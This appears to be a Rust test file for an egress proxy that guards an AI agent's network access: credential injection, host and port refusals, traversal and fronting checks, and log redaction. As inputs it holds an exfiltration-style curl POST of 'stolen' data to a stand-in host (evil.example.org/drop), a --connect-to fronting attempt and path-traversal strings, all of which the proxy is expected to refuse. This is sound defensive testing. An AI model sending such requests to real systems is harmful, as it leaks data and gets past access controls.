@@ -1,0 +1,132 @@
+//! What passes, what is refused, and what the refused one is told; by curl, as an agent's tools would.
+
+use bottle_contract::decide::Reason;
+use bottle_contract::session::bundle::LogLevel;
+use bottle_test_support::upstream::Site;
+
+use super::fixture::{AUTH, DoorFixture, REAL, SITE, Wanted};
+
+const URL: &str = "https://api.example.com/v1/models?limit=2";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_real_credential_is_added_outside_and_the_agents_own_removed() {
+    let door = DoorFixture::open().await;
+    for version in ["--http1.1", "--http2"] {
+        let headers = ["-H", "Authorization: Bearer placeholder", "-H", "Cookie: a=b", "-H", "X-Kept: 1"];
+        let answer = door.curl(&[&[version, URL][..], &headers].concat()).await;
+        assert_eq!(answer.status(), 200);
+        let seen = door.site.visits().pop().expect("a visit");
+        assert_eq!(seen.header("authorization"), Some(format!("Bearer {REAL}").as_str()));
+        assert_eq!((seen.header("cookie"), seen.header("x-kept")), (None, Some("1")));
+        assert_eq!((seen.host.as_str(), seen.path.as_str()), (SITE, "/v1/models?limit=2"));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn both_ways_in_come_to_the_same_decision() {
+    let door = DoorFixture::open().await;
+    assert_eq!(door.curl_transparent(&[URL]).await.status(), 200);
+    let refused = door.curl_transparent(&["http://api.example.com/"]).await;
+    assert_eq!((refused.status(), refused.header("x-bottle-reason")), (403, Some("port-not-allowed".into())));
+    let refused = door.curl(&["http://api.example.com/"]).await;
+    assert_eq!((refused.status(), refused.header("x-bottle-reason")), (403, Some("port-not-allowed".into())));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_refusal_is_read_inside_the_tunnel_and_told_to_the_keeper_under_one_id() {
+    let door = DoorFixture::open().await;
+    let answer = door.curl(&["-X", "POST", "-d", "stolen", "https://evil.example.org/drop?x=1"]).await;
+    assert_eq!(answer.status(), 403);
+    assert!(answer.text().starts_with("HTTP/1.1 200"), "CONNECT is answered 200");
+    let body = answer.json();
+    let told = door.refusal().await;
+    assert_eq!(body["reason"], "host-not-allowed");
+    assert_eq!(body["id"], told.id.as_str());
+    assert_eq!(told.reason, Reason::HostNotAllowed);
+    assert_eq!((told.host.as_str(), told.port), ("evil.example.org", 443));
+    assert_eq!((told.method.as_str(), told.path.as_str()), ("POST", "/drop"));
+    assert!(door.site.visits().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_that_disagree_are_refused() {
+    let door = DoorFixture::open().await;
+    let answer = door.curl(&["-H", "Host: other.example.com", URL]).await;
+    assert_eq!(answer.header("x-bottle-reason").as_deref(), Some("authority-mismatch"));
+    let connect_to = format!("{SITE}:443:evil.example.org:443");
+    let fronted = door.curl(&["--connect-to", &connect_to, URL]).await;
+    assert_eq!(fronted.header("x-bottle-reason").as_deref(), Some("authority-mismatch"));
+    assert!(door.site.visits().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_is_decided_on_is_what_is_forwarded() {
+    let matches = "matches: [{paths: [{type: prefix, value: /v1}], methods: [GET]}]";
+    let door = DoorFixture::with(Wanted { route: matches, ..Wanted::default() }).await;
+    let get = |path: &str| vec!["--path-as-is".to_owned(), format!("https://{SITE}{path}")];
+    for (path, reason) in [
+        ("/v1/../admin", "request-not-allowed"),
+        ("/v1/%2e%2e/admin", "request-not-allowed"),
+        ("/v1%2f..%2fadmin", "path-ambiguous"),
+        ("/v10", "request-not-allowed"),
+    ] {
+        let arguments = get(path);
+        let answer = door.curl(&arguments.iter().map(String::as_str).collect::<Vec<_>>()).await;
+        assert_eq!(answer.header("x-bottle-reason").as_deref(), Some(reason), "{path}");
+    }
+    let arguments = get("/x/../v1/%61");
+    let answer = door.curl(&arguments.iter().map(String::as_str).collect::<Vec<_>>()).await;
+    assert_eq!(answer.status(), 200);
+    assert_eq!(door.site.visits().pop().expect("a visit").path, "/v1/a");
+    assert_eq!(door.site.visits().len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn plain_http_passes_on_port_80_where_a_route_asks_for_it() {
+    let site = Site { tls: false, ..Site::named(&[SITE]) };
+    let door = DoorFixture::with(Wanted { site, route: "ports: [80]", ..Wanted::default() }).await;
+    for answer in [
+        door.curl(&["http://api.example.com/a"]).await,
+        door.curl_transparent(&["http://api.example.com/a"]).await,
+        door.curl(&["--proxytunnel", "http://api.example.com/a"]).await,
+    ] {
+        assert_eq!(answer.status(), 200);
+    }
+    assert_eq!(door.site.visits().len(), 3);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_door_tells_its_routes() {
+    let door = DoorFixture::open().await;
+    let answer = door.curl(&["http://_egress.local/allowlist"]).await;
+    assert_eq!(answer.status(), 200);
+    let body = answer.json();
+    assert_eq!(body["revision"], 1);
+    let shown = serde_json::json!([{"host": SITE, "auth": {"scheme": "Bearer"}}]);
+    assert_eq!(body["routes"], shown);
+    assert_eq!(door.curl(&["http://_egress.local/other"]).await.status(), 404);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_log_shows_everything_but_the_credential() {
+    let door = DoorFixture::with(Wanted { route: AUTH, log: LogLevel::Full, ..Wanted::default() }).await;
+    let said = format!("leak {REAL} here");
+    assert_eq!(door.curl(&["-d", &said, "-H", "X-Note: hello", URL]).await.status(), 200);
+    let path = door.folder.path().join("egress.jsonl");
+    let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    let line = loop {
+        let text = std::fs::read_to_string(&path).expect("log");
+        if let Some(line) = text.lines().next() {
+            break line.to_owned();
+        }
+        assert!(std::time::Instant::now() < until, "no line was written");
+        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+    };
+    assert!(!line.contains(REAL), "{line}");
+    let line: serde_json::Value = serde_json::from_str(&line).expect("a JSON line");
+    assert_eq!((&line["verdict"], &line["status"]), (&"passed".into(), &200.into()));
+    let request = line["request"].to_string();
+    assert!(request.contains("hello") && request.contains("leak") && !request.contains("authorization"));
+    // The fake site echoes what it was sent, the injected header among it.
+    assert!(line["response"]["body"].as_str().expect("body").contains("api.example.com"));
+}
